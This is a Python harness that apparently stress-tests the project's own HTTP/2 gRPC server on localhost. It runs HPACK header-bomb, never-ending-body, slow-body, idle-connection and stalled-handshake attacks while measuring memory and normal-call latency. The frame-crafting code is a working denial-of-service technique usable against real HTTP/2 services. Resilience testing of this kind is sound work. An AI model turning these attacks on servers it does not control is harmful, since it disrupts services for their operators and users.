#!/usr/bin/env python3
"""Attacks on a running HTTP/2 server (the registration service over TLS), as a peer without
credentials would make them, measuring the server process's RSS and what the server answers
(docs/http2-server-limits.md). One scenario per run:

    abuse.py SCENARIO --port PORT --pid PID --ca CERT [--size N]

SCENARIO: header_bomb, unfinished_bodies, idle_connections, slow_bodies, stalled_handshakes.
While the attack holds its connections, normal gRPC calls on new connections are timed. The last
line of output is `RESULT {json}`: rss_baseline_mb, rss_peak_mb, rss_growth_mb, normal_call_ms (list),
normal_call_ok, and the scenario's own counts. Every loop is bounded in count and time."""
from __future__ import annotations

import argparse
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = "/push.v1.TokenRegistry/RegisterToken"


# ---------------------------------------------------------------------------- measurement

def rss_kb(pid: int) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS")


def open_fds(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


class Sampler(threading.Thread):
    """Samples the server's RSS and descriptor count every 20 ms until stopped."""

    def __init__(self, pid: int):
        super().__init__(daemon=True)
        self.pid = pid
        self.peak_kb = rss_kb(pid)
        self.peak_fds = open_fds(pid)
        self.done = threading.Event()

    def run(self):
        while not self.done.is_set():
            try:
                self.peak_kb = max(self.peak_kb, rss_kb(self.pid))
                self.peak_fds = max(self.peak_fds, open_fds(self.pid))
            except (OSError, RuntimeError):
                return
            time.sleep(0.02)


# ---------------------------------------------------------------------------- clients

def readable(socks: list, timeout: float) -> list:
    """The sockets of `socks` with something to read (or closed) within `timeout` seconds (poll(2):
    select(2) stops at descriptor 1024)."""
    poller = select.poll()
    by_fd = {}
    for sock in socks:
        by_fd[sock.fileno()] = sock
        poller.register(sock, select.POLLIN | select.POLLHUP | select.POLLERR)
    return [by_fd[fd] for fd, _ in poller.poll(timeout * 1000)]


def tls_context(ca: str) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    return context


def attacker_context() -> ssl.SSLContext:
    """An attacker does not check the server's certificate (and saves the time it takes)."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def tls_socket(port: int, context: ssl.SSLContext, timeout: float = 10.0) -> ssl.SSLSocket:
    raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    tls = context.wrap_socket(raw, server_hostname="localhost")
    assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
    return tls


def register_message() -> bytes:
    """A gRPC-framed push.v1.RegisterTokenRequest (protobuf written by hand)."""
    def field(number: int, payload: bytes) -> bytes:
        return bytes([number << 3 | 2, len(payload)]) + payload
    device = field(1, b"ab" * 32) + field(2, b"com.example.abuse") + bytes([3 << 3, 1])
    message = field(1, device)
    return b"\x00" + struct.pack(">I", len(message)) + message


def grpc_headers(port: int) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "https"), (":path", METHOD), (":authority", f"localhost:{port}"),
            ("content-type", "application/grpc"), ("te", "trailers")]


class H2Client:
    """An h2 connection over TLS: flow control and framing by the `h2` library."""

    def __init__(self, port: int, context: ssl.SSLContext):
        self.port = port
        self.sock = tls_socket(port, context)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.flush()
        self.events: list = []
        self.closed = False

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout: float) -> bool:
        """Reads what arrives within `timeout`; returns False once the server closed."""
        if self.closed:
            return False
        if not readable([self.sock], timeout):
            return True
        try:
            data = self.sock.recv(65536)
        except (ssl.SSLError, OSError):
            data = b""
        if not data:
            self.closed = True
            return False
        self.events.extend(self.conn.receive_data(data))
        self.flush()
        return True

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def normal_call(port: int, context: ssl.SSLContext) -> tuple[bool, float, str]:
    """A RegisterToken call on a new connection: (succeeded, milliseconds, status)."""
    start = time.monotonic()
    try:
        client = H2Client(port, context)
        stream = client.conn.get_next_available_stream_id()
        client.conn.send_headers(stream, grpc_headers(port))
        client.conn.send_data(stream, register_message(), end_stream=True)
        client.flush()
        status = None
        deadline = start + 5
        while status is None and time.monotonic() < deadline and client.pump(0.05):
            for event in client.events:
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)) and event.stream_id == stream:
                    fields = dict(event.headers)
                    status = fields.get("grpc-status", status)
                if isinstance(event, h2.events.StreamReset) and event.stream_id == stream:
                    status = f"reset {event.error_code}"
            client.events.clear()
        elapsed = (time.monotonic() - start) * 1000
        client.close()
        return status == "0", elapsed, str(status)
    except OSError as error:
        return False, (time.monotonic() - start) * 1000, f"error {error}"


def normal_calls(port: int, context: ssl.SSLContext, count: int = 5) -> list[tuple[bool, float, str]]:
    results = []
    for _ in range(count):
        results.append(normal_call(port, context))
        time.sleep(0.05)
    return results


# ---------------------------------------------------------------------------- raw frames

def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_string(text: bytes) -> bytes:
    return hpack_int(len(text), 7, 0) + text


def literal(name: bytes, value: bytes, indexing: bool = False) -> bytes:
    return bytes([0x40 if indexing else 0x00]) + hpack_string(name) + hpack_string(value)


def read_frames(sock, buffer: bytearray):
    """Splits complete frames off `buffer`: yields (type, flags, stream, payload)."""
    while len(buffer) >= 9:
        length = int.from_bytes(buffer[0:3], "big")
        if len(buffer) < 9 + length:
            return
        kind, flags = buffer[3], buffer[4]
        stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
        payload = bytes(buffer[9:9 + length])
        del buffer[:9 + length]
        yield kind, flags, stream, payload


# ---------------------------------------------------------------------------- scenarios

def header_bomb(args, context) -> dict:
    """HEADERS frames of 16 KB that name one 4 KB HPACK dynamic-table entry ~16,000 times each
    (~64 MB decoded per frame), on `size` streams spread over 4 connections."""
    connections = 4
    per_connection = max(1, args.size // connections)
    entry = b"v" * 4000
    answers: dict[str, int] = {}
    announced = None
    socks = []
    for _ in range(connections):
        sock = tls_socket(args.port, context)
        sock.sendall(PREFACE + frame(0x4, 0, 0, b""))
        socks.append(sock)
    for sock in socks:
        stream = 1
        for index in range(per_connection):
            block = (b"\x83\x87" + bytes([0x04]) + hpack_string(METHOD.encode()) + bytes([0x01]) + hpack_string(f"localhost:{args.port}".encode())
                     + bytes([0x0f, 0x10]) + hpack_string(b"application/grpc") + literal(b"te", b"trailers"))
            if index == 0:
                block += literal(b"x-bomb", entry, indexing=True)  # dynamic-table entry 62
            block += b"\xbe" * (16384 - len(block))              # indexed field 62, again and again
            sock.sendall(frame(0x1, 0x4 | 0x1, stream, block))  # END_HEADERS | END_STREAM
            stream += 2
    decoders = [hpack.Decoder() for _ in socks]
    buffers = [bytearray() for _ in socks]
    answered = 0
    deadline = time.monotonic() + 20
    open_socks = list(range(len(socks)))
    index_of = {sock.fileno(): i for i, sock in enumerate(socks)}
    while answered < per_connection * connections and time.monotonic() < deadline and open_socks:
        for sock in readable([socks[i] for i in open_socks], 0.5):
            i = index_of[sock.fileno()]
            try:
                data = sock.recv(65536)
            except (ssl.SSLError, OSError):
                data = b""
            if not data:
                open_socks.remove(i)
                continue
            buffers[i].extend(data)
            for kind, flags, stream, payload in read_frames(sock, buffers[i]):
                if kind == 0x4 and not flags & 0x1:  # SETTINGS: acknowledge, note the header-list limit
                    for offset in range(0, len(payload), 6):
                        identifier, value = struct.unpack(">HI", payload[offset:offset + 6])
                        if identifier == 0x6:
                            announced = value
                    sock.sendall(frame(0x4, 0x1, 0, b""))
                elif kind == 0x1:
                    fields = dict((k.decode() if isinstance(k, bytes) else k, v.decode() if isinstance(v, bytes) else v)
                                  for k, v in decoders[i].decode(payload))
                    key = f"{fields.get(':status')} grpc-status {fields.get('grpc-status')}"
                    answers[key] = answers.get(key, 0) + 1
                    if flags & 0x1:
                        answered += 1
                elif kind == 0x7:
                    answers["goaway"] = answers.get("goaway", 0) + 1
    calls = normal_calls(args.port, context)
    for sock in socks:
        sock.close()
    return {"streams": per_connection * connections, "answered": answered, "answers": answers,
            "announced_max_header_list_size": announced, "calls": calls}


def unfinished_bodies(args, context) -> dict:
    """`size` connections x 100 streams, each trying to send a 1 MiB body that never ends, as fast as
    flow control lets it; then wait for the server's answers."""
    clients = [H2Client(args.port, context) for _ in range(args.size)]
    streams: dict[int, list[int]] = {}
    chunk = b"\x00" * 16384
    for index, client in enumerate(clients):
        ids = []
        for _ in range(100):
            stream = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream, grpc_headers(args.port))
            ids.append(stream)
        client.flush()
        streams[index] = ids
    sent = 0
    answers: dict[str, int] = {}
    done: set[tuple[int, int]] = set()
    deadline = time.monotonic() + 8
    calls = []
    while time.monotonic() < deadline and len(done) < 100 * len(clients):
        progressed = False
        for index, client in enumerate(clients):
            if client.closed:
                continue
            for stream in streams[index]:
                if (index, stream) in done:
                    continue
                try:
                    window = min(client.conn.local_flow_control_window(stream), len(chunk))
                except Exception:
                    continue
                if window > 0:
                    client.conn.send_data(stream, chunk[:window])
                    sent += window
                    progressed = True
            try:
                client.flush()
            except OSError:
                client.closed = True
            client.pump(0)
            for event in client.events:
                if isinstance(event, h2.events.ResponseReceived):
                    fields = dict(event.headers)
                    key = f"{fields.get(':status')} grpc-status {fields.get('grpc-status')}"
                    answers[key] = answers.get(key, 0) + 1
                if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    done.add((index, event.stream_id))
            client.events.clear()
        if not calls and sent > len(clients) * 512 * 1024:
            calls = normal_calls(args.port, context)  # while every connection's window is full
        if not progressed:
            time.sleep(0.01)
    if not calls:
        calls = normal_calls(args.port, context)
    for client in clients:
        client.close()
    return {"streams": 100 * len(clients), "answered": len(done), "answers": answers, "body_bytes_sent": sent, "calls": calls}


def idle_connections(args, context) -> dict:
    """`size` TLS connections that send the preface and SETTINGS and then nothing. Reports when the
    server closed them (GOAWAY, then EOF)."""
    socks = []
    opened_at = time.monotonic()
    failures = 0
    attacker = attacker_context()
    for _ in range(args.size):
        try:
            sock = tls_socket(args.port, attacker)
            sock.sendall(PREFACE + frame(0x4, 0, 0, b""))
            sock.setblocking(False)
            socks.append(sock)
        except OSError:
            failures += 1
    opened_seconds = time.monotonic() - opened_at
    calls = normal_calls(args.port, context)
    goaway = 0
    closed = 0
    deadline = time.monotonic() + args.wait
    pending = set(range(len(socks)))
    buffers = {i: bytearray() for i in pending}
    seen_goaway: set[int] = set()
    index_of = {sock.fileno(): i for i, sock in enumerate(socks)}
    while pending and time.monotonic() < deadline:
        for sock in readable([socks[i] for i in pending], 0.2):
            i = index_of[sock.fileno()]
            try:
                data = sock.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except (ssl.SSLError, OSError):
                data = b""
            if not data:
                pending.discard(i)
                closed += 1
                continue
            buffers[i].extend(data)
            for kind, _, _, payload in read_frames(sock, buffers[i]):
                if kind == 0x7 and i not in seen_goaway:
                    seen_goaway.add(i)
                    error = struct.unpack(">I", payload[4:8])[0]
                    if error == 0:
                        goaway += 1
    closed_seconds = time.monotonic() - opened_at
    for sock in socks:
        sock.close()
    return {"connections": len(socks), "connect_failures": failures, "opened_seconds": round(opened_seconds, 2),
            "closed_by_server": closed, "goaway_no_error": goaway, "all_closed_after_seconds": round(closed_seconds, 2),
            "calls": calls}


def slow_bodies(args, context) -> dict:
    """`size` connections x 100 streams each sending one body byte per second. Reports when the
    server answered each stream."""
    clients = [H2Client(args.port, context) for _ in range(args.size)]
    streams = {}
    started = time.monotonic()
    for index, client in enumerate(clients):
        ids = []
        for _ in range(100):
            stream = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream, grpc_headers(args.port))
            ids.append(stream)
        client.flush()
        streams[index] = ids
    answers: dict[str, int] = {}
    done: dict[tuple[int, int], float] = {}
    deadline = started + args.wait
    next_byte = started
    calls = []
    while time.monotonic() < deadline and len(done) < 100 * len(clients):
        now = time.monotonic()
        if now >= next_byte:
            next_byte += 1.0
            for index, client in enumerate(clients):
                for stream in streams[index]:
                    if (index, stream) not in done:
                        try:
                            client.conn.send_data(stream, b"\x00")
                        except Exception:
                            pass
                try:
                    client.flush()
                except OSError:
                    client.closed = True
            if not calls and now - started > 0.5:
                calls = normal_calls(args.port, context)
        for index, client in enumerate(clients):
            client.pump(0)
            for event in client.events:
                if isinstance(event, h2.events.ResponseReceived):
                    fields = dict(event.headers)
                    key = f"{fields.get(':status')} grpc-status {fields.get('grpc-status')}"
                    answers[key] = answers.get(key, 0) + 1
                if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    done.setdefault((index, event.stream_id), time.monotonic() - started)
            client.events.clear()
        time.sleep(0.01)
    for client in clients:
        client.close()
    times = sorted(done.values())
    return {"streams": 100 * len(clients), "answered": len(done), "answers": answers,
            "first_answer_seconds": round(times[0], 2) if times else None,
            "last_answer_seconds": round(times[-1], 2) if times else None, "calls": calls}


def stalled_handshakes(args, context) -> dict:
    """`size` TCP connections that send half a TLS ClientHello and then nothing. Reports when the
    server closed them."""
    socks = []
    started = time.monotonic()
    for _ in range(args.size):
        sock = socket.create_connection(("127.0.0.1", args.port), timeout=5)
        sock.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")  # a record header promising 512 bytes
        sock.setblocking(False)
        socks.append(sock)
    calls = normal_calls(args.port, context)
    pending = set(range(len(socks)))
    closed_at = []
    deadline = started + args.wait
    index_of = {sock.fileno(): i for i, sock in enumerate(socks)}
    while pending and time.monotonic() < deadline:
        for sock in readable([socks[i] for i in pending], 0.2):
            i = index_of[sock.fileno()]
            try:
                data = sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                pending.discard(i)
                closed_at.append(time.monotonic() - started)
    for sock in socks:
        sock.close()
    return {"connections": len(socks), "closed_by_server": len(closed_at),
            "first_closed_seconds": round(min(closed_at), 2) if closed_at else None,
            "last_closed_seconds": round(max(closed_at), 2) if closed_at else None, "calls": calls}


SCENARIOS = {f.__name__: f for f in (header_bomb, unfinished_bodies, idle_connections, slow_bodies, stalled_handshakes)}


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("scenario", choices=sorted(SCENARIOS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--size", type=int, default=10)
    parser.add_argument("--wait", type=float, default=15.0, help="seconds to wait for the server's timeouts")
    args = parser.parse_args()
    context = tls_context(args.ca)
    warm = normal_calls(args.port, context, count=5)  # unloaded reference; the first call also pays for lazy set-up
    time.sleep(0.3)
    baseline = rss_kb(args.pid)
    sampler = Sampler(args.pid)
    sampler.start()
    result = SCENARIOS[args.scenario](args, context)
    sampler.done.set()
    sampler.join()
    calls = result.pop("calls")
    result.update({
        "scenario": args.scenario,
        "rss_baseline_mb": round(baseline / 1024, 1), "rss_peak_mb": round(sampler.peak_kb / 1024, 1),
        "rss_growth_mb": round((sampler.peak_kb - baseline) / 1024, 1), "peak_fds": sampler.peak_fds,
        "normal_call_ms": [round(ms, 1) for _, ms, _ in calls], "normal_call_status": [status for _, _, status in calls],
        "normal_call_ok": all(ok for ok, _, _ in calls), "warm_up_ok": all(ok for ok, _, _ in warm),
        "warm_up_ms": [round(ms, 1) for _, ms, _ in warm],
    })
    print("RESULT " + json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
